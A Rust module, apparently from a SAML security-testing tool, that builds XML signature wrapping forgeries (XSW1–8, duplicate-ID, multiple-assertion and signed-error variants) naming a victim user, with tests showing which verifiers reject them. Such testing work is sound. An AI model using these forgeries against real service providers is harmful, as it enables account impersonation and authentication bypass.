//! Signature wrapping: the attacker's genuinely signed element stays in the document, where
//! a careless verifier still finds it, while an evil copy naming the victim sits where the
//! SP reads its data.
//!
//! XSW1–8 follow SAML Raider's `XSWHelpers` (the constructions of Somorovsky et al., "On
//! Breaking SAML", 2012) with two deliberate differences: the new wrapper elements are in
//! their proper namespaces (`samlp:Extensions`, `ds:Object`; SAML Raider creates them without
//! one, which schema-aware SPs reject for an unrelated reason), and in XSW1/2 the evil
//! Response's Assertion also gets a fresh ID, so that a duplicate Assertion ID is not an
//! incidental reason to refuse it. Where SAML Raider keeps the original's ID on the evil copy
//! (XSW7, XSW8), so do we.

use super::kit::{
    after_issuer, assertion_index, attacker_genuine, child_mut, element_child, evil_copy,
    forged_doc, genuine, remove_child, signature_mut, spec_for, victim, without_signature,
};
use super::{Attack, AttackError, Forged, Scenario};
use crate::saml::dsig::{DSIG_NS, SAML_ASSERTION_NS};
use crate::saml::idp::SAMLP_NS;
use crate::saml::response::{SignMode, new_id};
use crate::saml::xml::{Element, Node};

/// Top-level status "the IdP could not perform the request" (SAML core §3.2.2.2).
pub(super) const STATUS_RESPONDER: &str = "urn:oasis:names:tc:SAML:2.0:status:Responder";

pub(super) fn forge(attack: Attack, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    match attack {
        Attack::Xsw(n @ (1 | 2)) => xsw_response(s, n),
        Attack::Xsw(n @ 3..=8) => xsw_assertion(s, n),
        Attack::XswEvilAfterValid => evil_after_valid(s),
        Attack::MultipleAssertions => multiple_assertions(s),
        Attack::DuplicateId => duplicate_id(s),
        Attack::SignedErrorResponse => signed_error_response(s),
        other => Err(AttackError::Unsupported(format!(
            "{other} is not a wrapping attack (XSW variants are 1 to 8)"
        ))),
    }
}

/// The victim's identity on an element of the attacker's, with a fresh ID on the element
/// and on every Assertion inside it.
fn retarget_with_fresh_ids(el: &mut Element, s: &Scenario<'_>) {
    super::kit::retarget(el, &s.attacker_identity, victim(s));
    super::kit::for_each_element_mut(el, &mut |e| {
        if e.attr("ID").is_some()
            && (e.is(SAMLP_NS, "Response") || e.is(SAML_ASSERTION_NS, "Assertion"))
        {
            e.set_attr("ID", &new_id());
        }
    });
}

/// XSW1 and XSW2: the attacker's Response is signed; the evil Response (new ID) is the
/// root and keeps the Signature, whose Reference now finds an unsigned copy of the
/// original: appended inside the Signature (XSW1) or inserted just before it (XSW2).
fn xsw_response(s: &Scenario<'_>, n: u8) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, SignMode::Response)?;
    let copy = without_signature(&doc.root);
    // Retarget before the copy goes in: it must stay exactly as signed.
    retarget_with_fresh_ids(&mut doc.root, s);
    let where_ = if n == 1 {
        signature_mut(&mut doc.root)?.append_child(copy);
        "appended inside the Response's ds:Signature"
    } else {
        let at = after_issuer(&doc.root);
        doc.root.insert_child(at, Node::Element(copy));
        "inserted before the Response's ds:Signature"
    };
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        format!(
            "XSW{n}: evil Response (new ID) naming the victim keeps the attacker's Response signature; the unsigned original Response is {where_}"
        ),
    )
}

/// XSW3 to XSW8 on the attacker's signed Assertion.
fn xsw_assertion(s: &Scenario<'_>, n: u8) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, SignMode::Assertion)?;
    let i = assertion_index(&doc.root)?;
    let original = element_child(&doc.root, i)?.clone();
    let what = match n {
        3 => {
            let evil = evil_copy(&original, s, true);
            doc.root.insert_child(i, Node::Element(evil));
            "evil unsigned Assertion (new ID) inserted before the signed original"
        }
        4 => {
            let mut evil = evil_copy(&original, s, true);
            evil.append_child(remove_child(&mut doc.root, i)?);
            doc.root.append_child(evil);
            "evil unsigned Assertion (new ID) appended to the Response, the signed original nested inside it as its last child"
        }
        5 | 6 | 8 => {
            let copy = without_signature(&original);
            let evil = child_mut(&mut doc.root, i)?;
            super::kit::retarget(evil, &s.attacker_identity, victim(s));
            if n != 8 {
                evil.set_attr("ID", &new_id());
            }
            match n {
                5 => {
                    doc.root.append_child(copy);
                    "evil Assertion (new ID) in the original's place keeps its signature; the unsigned original appended to the Response"
                }
                6 => {
                    signature_mut(evil)?.append_child(copy);
                    "evil Assertion (new ID) in the original's place keeps its signature; the unsigned original appended inside that ds:Signature"
                }
                _ => {
                    let object = Element::new_ns("ds", DSIG_NS, "Object").with_child(copy);
                    signature_mut(evil)?.append_child(object);
                    "evil Assertion (same ID) in the original's place keeps its signature; the unsigned original (same ID) in a new ds:Object of that signature"
                }
            }
        }
        _ => {
            // 7: SAML Raider keeps the ID here, so the two Assertions share it.
            let evil = evil_copy(&original, s, false);
            let ext = Element::new_ns("samlp", SAMLP_NS, "Extensions").with_child(evil);
            doc.root.insert_child(i, Node::Element(ext));
            "evil unsigned Assertion (same ID) in a new samlp:Extensions inserted before the signed original"
        }
    };
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        format!("XSW{n}: {what}"),
    )
}

/// The attacker's signed Assertion, then an unsigned evil one (new ID) right after it.
fn evil_after_valid(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, SignMode::Assertion)?;
    let i = assertion_index(&doc.root)?;
    let evil = evil_copy(element_child(&doc.root, i)?, s, true);
    doc.root.insert_child(i + 1, Node::Element(evil));
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        "the attacker's genuinely signed Assertion followed by an unsigned evil Assertion (new ID) naming the victim".into(),
    )
}

/// Two genuinely signed Assertions, the victim's first: the IdP key signs both, modelling a
/// victim Assertion the attacker captured (for example one issued for another SP with the
/// same audience, or leaked from logs) put next to their own. The Response is unsigned (no
/// IdP signs such a Response). The Web SSO profile requires every Assertion of a Response to
/// name the same subject (SAML profiles §4.1.4.2).
fn multiple_assertions(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = genuine(s, &s.base, SignMode::Assertion)?;
    let mut theirs = attacker_genuine(s, SignMode::Assertion)?;
    let j = assertion_index(&theirs.root)?;
    let attacker_assertion = remove_child(&mut theirs.root, j)?;
    let i = assertion_index(&doc.root)?;
    doc.root
        .insert_child(i + 1, Node::Element(attacker_assertion));
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        "two genuinely signed Assertions in one unsigned Response: the victim's (captured) first, the attacker's second".into(),
    )
}

/// An evil Assertion carrying the signed one's ID, placed before it.
fn duplicate_id(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, SignMode::Assertion)?;
    let i = assertion_index(&doc.root)?;
    let evil = evil_copy(element_child(&doc.root, i)?, s, false);
    doc.root.insert_child(i, Node::Element(evil));
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        "an unsigned evil Assertion naming the victim with the same ID as the attacker's signed Assertion, placed before it".into(),
    )
}

/// The IdP's genuinely signed (Assertion and Response) answer with status Responder that
/// still carries an Assertion for the victim.
fn signed_error_response(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut spec = spec_for(s, victim(s));
    spec.status = STATUS_RESPONDER.to_string();
    let mut doc = genuine(s, &spec, SignMode::Both)?;
    forged_doc(
        &mut doc,
        s,
        None,
        "a Response with status Responder, signed by the IdP (Assertion and Response), carrying an Assertion for the victim".into(),
    )
}

#[cfg(test)]
mod tests {
    use super::super::kit::testing::*;
    use super::*;
    use crate::saml::dsig::{self, DsigError, signature_paths};
    use crate::saml::xml::{Document, NodePath, XmlError};

    fn run(attack: Attack) -> (Forged, Document) {
        let s = scenario(SignMode::Assertion);
        let f = forge(attack, &s).unwrap();
        assert_eq!(f.claimed, VICTIM);
        assert!(!f.description.contains('\n'));
        let doc = parse(&f.xml);
        (f, doc)
    }

    fn idp_cert() -> &'static openssl::x509::X509 {
        &scenario(SignMode::None).idp.cert
    }

    fn only_signature(doc: &Document) -> NodePath {
        let sigs = signature_paths(doc);
        assert_eq!(sigs.len(), 1);
        sigs[0].clone()
    }

    #[test]
    fn xsw1_and_xsw2_wrap_the_signed_response() {
        for n in [1, 2] {
            let (f, doc) = run(Attack::Xsw(n));
            assert_eq!(f.genuine.as_deref(), Some(ATTACKER));
            assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
            let sig = only_signature(&doc);
            assert_eq!(
                sig.parent(),
                Some(NodePath::default()),
                "signature on the root"
            );
            assert!(doc.duplicate_ids().is_empty());
            // Our verifier refuses both a foreign child in ds:Signature and a Reference
            // to anything but the signature's parent.
            let err = strict(&doc, &sig, idp_cert()).unwrap_err();
            if n == 1 || n == 6 {
                assert!(matches!(err, DsigError::Malformed { .. }), "{err}");
            } else {
                assert!(matches!(err, DsigError::ReferenceNotParent { .. }), "{err}");
            }
            let signed = lax(&doc, &sig, idp_cert(), Resolve::First).unwrap();
            let copy = doc.get(&signed).unwrap();
            assert!(copy.is(SAMLP_NS, "Response"));
            let expected_parent = if n == 1 {
                sig.clone()
            } else {
                NodePath::default()
            };
            assert_eq!(signed.parent(), Some(expected_parent));
            let inner = signed.child(assertion_index(copy).unwrap());
            assert_eq!(name_id(&doc, &inner), ATTACKER);
        }
    }

    #[test]
    fn xsw3_and_xsw4_keep_a_valid_signature_where_it_sits() {
        for n in [3, 4] {
            let (_, doc) = run(Attack::Xsw(n));
            let sig = only_signature(&doc);
            // The signature is intact in place; the defect is consuming another Assertion.
            strict(&doc, &sig, idp_cert()).unwrap();
            let consumed = consumed(&doc);
            assert_eq!(name_id(&doc, &consumed), VICTIM);
            assert_eq!(name_id(&doc, &sig.parent().unwrap()), ATTACKER);
            let evil = doc.get(&consumed).unwrap();
            assert!(evil.find_child(DSIG_NS, "Signature").is_none());
            if n == 4 {
                assert_eq!(sig.parent().unwrap().parent(), Some(consumed.clone()));
                assert_eq!(
                    doc.root
                        .find_children(SAML_ASSERTION_NS, "Assertion")
                        .count(),
                    1
                );
            } else {
                assert_eq!(assertions(&doc).len(), 2);
            }
        }
    }

    #[test]
    fn xsw5_and_xsw6_move_the_signature_onto_the_evil_assertion() {
        for n in [5, 6] {
            let (_, doc) = run(Attack::Xsw(n));
            let consumed = consumed(&doc);
            assert_eq!(name_id(&doc, &consumed), VICTIM);
            let sig = sig_of(&doc, &consumed);
            assert_eq!(only_signature(&doc), sig);
            // Our verifier refuses both a foreign child in ds:Signature and a Reference
            // to anything but the signature's parent.
            let err = strict(&doc, &sig, idp_cert()).unwrap_err();
            if n == 1 || n == 6 {
                assert!(matches!(err, DsigError::Malformed { .. }), "{err}");
            } else {
                assert!(matches!(err, DsigError::ReferenceNotParent { .. }), "{err}");
            }
            let signed = lax(&doc, &sig, idp_cert(), Resolve::First).unwrap();
            assert_eq!(name_id(&doc, &signed), ATTACKER);
            let expected_parent = if n == 5 {
                NodePath::default()
            } else {
                sig.clone()
            };
            assert_eq!(signed.parent(), Some(expected_parent));
        }
    }

    #[test]
    fn xsw7_hides_the_evil_assertion_in_extensions_with_the_same_id() {
        let (_, doc) = run(Attack::Xsw(7));
        let all = assertions(&doc);
        assert_eq!(all.len(), 2);
        // First in document order: the evil one, inside samlp:Extensions.
        assert_eq!(name_id(&doc, &all[0]), VICTIM);
        let ext = doc.get(&all[0].parent().unwrap()).unwrap();
        assert!(ext.is(SAMLP_NS, "Extensions"));
        let sig = only_signature(&doc);
        assert!(matches!(
            strict(&doc, &sig, idp_cert()),
            Err(DsigError::Xml(XmlError::DuplicateId { count: 2, .. }))
        ));
        assert!(lax(&doc, &sig, idp_cert(), Resolve::First).is_err());
        assert_eq!(
            lax(&doc, &sig, idp_cert(), Resolve::Enclosing).unwrap(),
            all[1]
        );
    }

    #[test]
    fn xsw8_puts_the_original_in_a_signature_object() {
        let (_, doc) = run(Attack::Xsw(8));
        let consumed = consumed(&doc);
        assert_eq!(name_id(&doc, &consumed), VICTIM);
        let sig = sig_of(&doc, &consumed);
        let all = assertions(&doc);
        assert_eq!(all.len(), 2);
        let object = doc.get(&all[1].parent().unwrap()).unwrap();
        assert!(object.is(DSIG_NS, "Object"));
        assert_eq!(all[1].parent().unwrap().parent(), Some(sig.clone()));
        assert!(strict(&doc, &sig, idp_cert()).is_err());
        assert!(lax(&doc, &sig, idp_cert(), Resolve::First).is_err());
        assert_eq!(lax(&doc, &sig, idp_cert(), Resolve::Last).unwrap(), all[1]);
        assert_eq!(name_id(&doc, &all[1]), ATTACKER);
    }

    #[test]
    fn evil_after_valid_appends_an_unsigned_assertion() {
        let (f, doc) = run(Attack::XswEvilAfterValid);
        assert_eq!(f.genuine.as_deref(), Some(ATTACKER));
        let kids: Vec<NodePath> = doc
            .root
            .indexed_child_elements()
            .filter(|(_, e)| e.is(SAML_ASSERTION_NS, "Assertion"))
            .map(|(i, _)| NodePath(vec![i]))
            .collect();
        assert_eq!(kids.len(), 2);
        assert_eq!(name_id(&doc, &kids[0]), ATTACKER);
        strict(&doc, &sig_of(&doc, &kids[0]), idp_cert()).unwrap();
        assert_eq!(name_id(&doc, &kids[1]), VICTIM);
        assert!(
            doc.get(&kids[1])
                .unwrap()
                .find_child(DSIG_NS, "Signature")
                .is_none()
        );
        assert!(doc.duplicate_ids().is_empty());
    }

    #[test]
    fn multiple_assertions_are_both_genuinely_signed() {
        let (f, doc) = run(Attack::MultipleAssertions);
        assert_eq!(f.genuine.as_deref(), Some(ATTACKER));
        let all = assertions(&doc);
        assert_eq!(all.len(), 2);
        assert_eq!(name_id(&doc, &all[0]), VICTIM);
        assert_eq!(name_id(&doc, &all[1]), ATTACKER);
        // Every signature verifies strictly: the defence is the one-subject rule.
        let verified = dsig::verify(&doc, std::slice::from_ref(idp_cert())).unwrap();
        assert_eq!(verified.len(), 2);
    }

    #[test]
    fn duplicate_id_precedes_the_signed_assertion() {
        let (_, doc) = run(Attack::DuplicateId);
        let all = assertions(&doc);
        assert_eq!(all.len(), 2);
        assert_eq!(name_id(&doc, &all[0]), VICTIM);
        let id = doc.get(&all[1]).unwrap().attr("ID").unwrap().to_string();
        assert_eq!(doc.get(&all[0]).unwrap().attr("ID"), Some(id.as_str()));
        let sig = only_signature(&doc);
        assert!(matches!(
            strict(&doc, &sig, idp_cert()),
            Err(DsigError::Xml(XmlError::DuplicateId { .. }))
        ));
        assert_eq!(
            lax(&doc, &sig, idp_cert(), Resolve::Enclosing).unwrap(),
            all[1]
        );
        assert!(lax(&doc, &sig, idp_cert(), Resolve::First).is_err());
    }

    #[test]
    fn signed_error_response_is_fully_signed() {
        let (f, doc) = run(Attack::SignedErrorResponse);
        assert_eq!(f.genuine, None);
        let status = doc
            .root
            .find_child(SAMLP_NS, "Status")
            .and_then(|s| s.find_child(SAMLP_NS, "StatusCode"))
            .and_then(|c| c.attr("Value"));
        assert_eq!(status, Some(STATUS_RESPONDER));
        assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
        assert_eq!(
            dsig::verify(&doc, std::slice::from_ref(idp_cert()))
                .unwrap()
                .len(),
            2
        );
    }

    #[test]
    fn unknown_variants_are_refused() {
        let s = scenario(SignMode::Assertion);
        for a in [Attack::Xsw(0), Attack::Xsw(9), Attack::Unsigned] {
            assert!(matches!(forge(a, &s), Err(AttackError::Unsupported(_))));
        }
    }
}
